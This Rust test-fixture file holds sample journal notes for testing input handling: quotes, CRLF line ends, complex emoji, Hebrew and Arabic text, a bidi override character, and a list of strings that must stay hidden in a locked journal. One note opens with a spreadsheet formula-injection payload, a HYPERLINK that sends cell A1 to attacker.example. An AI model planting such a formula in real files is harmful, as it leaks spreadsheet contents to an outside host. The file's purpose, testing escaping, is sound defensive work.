//! What is written on the journeys: everything that a keyboard and a clipboard can bring.

use journeys::{Door, Note};

/// Begins like a formula, and has quotes, commas and the line ends of another system.
pub const FORMULA: Note = Note {
    door: Door::Past,
    text: "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")\r\n\
           She asked, \"where is the ward?\", and I remembered my first corridor, \
           every door alike.\r\n\r\nThree commas, then; a semicolon: 'single' and \"double\".",
    title: "",
    role: "mentor",
    wishes: &["may-share", "ask-first", "do-not-quote"],
};

/// Faces joined of several characters, two directions of writing, and a sign that turns it.
pub const SIGNS: Note = Note {
    door: Door::Future,
    text: "In five years \u{1f469}\u{200d}\u{2695}\u{fe0f}\u{1f469}\u{200d}\u{1f469}\u{200d}\
           \u{1f467}\u{200d}\u{1f466} and \u{1f1e8}\u{1f1e6} \u{1f44d}\u{1f3fd}\n\
           \u{5e9}\u{5dc}\u{5d5}\u{5dd}, \u{5de}\u{5d7}\u{5e8} \u{5d0}\u{5e2}\u{5de}\u{5d5}\u{5d3} \
           \u{5dc}\u{5d9}\u{5d3} \u{5d4}\u{5de}\u{5d9}\u{5d8}\u{5d4}\n\
           \u{633}\u{623}\u{643}\u{648}\u{646} \u{637}\u{628}\u{64a}\u{628}\u{629}\n\
           turned \u{202e}round\u{202c} again, e\u{301} beside \u{e9}, \u{1d11e}",
    title: "\u{5de}\u{5d7}\u{5e8}, and \"after\" \u{1f305}",
    role: "both",
    wishes: &["may-share", "do-not-raise"],
};

/// Blanks and line feeds at both ends, and a title that begins like a formula.
pub const PLAIN: Note = Note {
    door: Door::Free,
    text: "  Nobody asked me anything today.\n\n\tI sat in the stairwell with the cardigan on, \
           and that was enough.  \n",
    title: "+1 quiet hour, \"mine\"",
    role: "",
    wishes: &[],
};

/// Written to be deleted, and brought back.
pub const EXTRA: Note = Note {
    door: Door::Free,
    text: "A passing marmalade thought that will be deleted.",
    title: "Marmalade",
    role: "student",
    wishes: &["do-not-quote"],
};

/// Added in a revision.
pub const ADDED: &str = "\nLater: the corridor has a window after all.";

/// Words of all of them, as they were typed, that must not be seen where the journal is locked.
pub const MARKS: [&str; 11] = [
    "HYPERLINK",
    "where is the ward",
    "my first corridor",
    "In five years",
    "\u{5de}\u{5d7}\u{5e8} \u{5d0}\u{5e2}\u{5de}\u{5d5}\u{5d3}",
    "\u{637}\u{628}\u{64a}\u{628}\u{629}",
    "Nobody asked me anything",
    "in the stairwell",
    "quiet hour",
    "marmalade thought",
    "after all",
];
